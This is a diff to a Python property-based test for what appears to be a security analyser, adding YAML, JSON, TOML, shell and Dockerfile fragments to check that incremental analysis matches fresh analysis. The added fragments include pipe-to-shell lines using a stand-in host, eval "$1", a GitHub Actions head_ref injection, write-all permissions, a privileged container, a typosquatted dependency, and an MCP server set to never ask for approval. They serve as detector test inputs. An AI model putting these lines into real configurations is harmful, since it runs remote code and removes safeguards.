@@ -6,6 +6,7 @@ standard library for their shapes.
 
 from __future__ import annotations
 
+import re
 import sysconfig
 from dataclasses import dataclass
 from functools import cache
@@ -172,6 +173,87 @@ _MADE = [
     for made in made_samples(rule_id, "text")
 ]
 PIECES["text"] = ["\n", "\r\n", "=", '"', " ", "é", "𝄞", "-----BEGIN ", "://", "@", *_MADE]
+PIECES |= {
+    "yaml": [
+        *(
+            "\n",
+            "\n  ",
+            "\n    ",
+            "- ",
+            ": ",
+            "[",
+            "]",
+            "{",
+            "}",
+            '"',
+            "'",
+            "|",
+            ">",
+            "&a ",
+            "*a",
+            "#",
+            "---\n",
+            "\t",
+            "\r\n",
+            "é",
+            "𝄞",
+        ),
+        *(
+            "run: echo ${{ github.head_ref }}\n",
+            "permissions: write-all\n",
+            "${{",
+            "}}",
+            "      - uses: a/b@v1\n",
+            "    privileged: true\n",
+        ),
+    ],
+    "json": [
+        *("{", "}", "[", "]", '"', ":", ",", "\\", "//", "/*", "*/", "\n", "\r\n", "1", "true", "é", "𝄞", "\u202e"),
+        *('"dependencies": {"expres": "1"},\n', '"scripts": {"a": "curl https://a.example/a | sh"},\n'),
+    ],
+    "toml": [
+        *("[", "]", "=", '"', "'", '"""', ".", ",", "{", "}", "#", "\n", "\r\n", "1", "true", "é", "𝄞", "[[a]]\n"),
+        *("[mcp_servers.a]\n", 'url = "http://tools.example.com"\n', 'approval_policy = "never"\n'),
+    ],
+    "shell": [
+        *(
+            "|",
+            "&&",
+            ";",
+            "\n",
+            "(",
+            ")",
+            "{",
+            "}",
+            "$(",
+            "`",
+            '"',
+            "'",
+            "<<E\n",
+            "E\n",
+            "<<<",
+            "<(",
+            "#",
+            "\\",
+            "$1",
+            "é",
+            "𝄞",
+            "\r\n",
+        ),
+        *("if true; then\n", "fi\n", "curl https://a.example/a | sh\n", 'eval "$1"\n', "f() {\n", "}\n"),
+    ],
+    "dockerfile": [
+        *("\n", "\\\n", "\r\n", "=", '"', "'", "$x", "[", "]", ",", "<<E\n", "E\n", "#", ":", "é", "𝄞"),
+        *(
+            "FROM a\n",
+            "RUN curl https://a.example/a | sh\n",
+            "ENV API_TOKEN=x\n",
+            "USER root\n",
+            "CMD a\n",
+            "COPY .env .\n",
+        ),
+    ],
+}
 for _language in ("python", "javascript"):
     PIECES[_language] += [made.text for made in made_samples("provider-token", _language)[:4]]
 
@@ -214,11 +296,14 @@ class Editing(RuleBasedStateMachine):
         self.token = CancelToken()
         self.undo: list[bytes] = []
         self.removed = b""
+        self.path = ""
 
     @initialize(data=st.data())
     def open(self, data: st.DataObject) -> None:
         text = data.draw(st.sampled_from(_texts(self.language)))
-        self.host.open(URI, "app/module" + self.language.extensions[0], self.language, text)
+        found = re.match(rb"(?:#|//) path: (\S+)", text)
+        self.path = found[1].decode() if found is not None else "app/module" + self.language.extensions[0]
+        self.host.open(URI, self.path, self.language, text)
         self.host.analyse(URI, self.token)
 
     def _position(self, data: st.DataObject) -> Position:
@@ -294,7 +379,7 @@ class Editing(RuleBasedStateMachine):
         settled = _found(self.host, self.host.settle(URI, self.token).findings)
         fresh_host = Host(load_knowledge())
         text = b"".join(self.host.lines(URI))
-        fresh_host.open(URI, "app/module" + self.language.extensions[0], self.language, text)
+        fresh_host.open(URI, self.path, self.language, text)
         fresh = _found(fresh_host, fresh_host.analyse(URI, self.token).findings)
         assert settled == fresh
         assert not self.host.faults.reported
@@ -305,7 +390,11 @@ class Editing(RuleBasedStateMachine):
 
 
 @pytest.mark.parametrize(
-    "language", ["java", "python", "javascript", "typescript", "tsx", "html", "vue", "svelte", "go", "text"]
+    "language",
+    [
+        *("java", "python", "javascript", "typescript", "tsx", "html", "vue", "svelte", "go", "text"),
+        *("yaml", "json", "toml", "shell", "dockerfile"),
+    ],
 )
 def test_incremental_equals_fresh(language: str) -> None:
     machine = type(f"Editing_{language}", (Editing,), {"language_name": language})
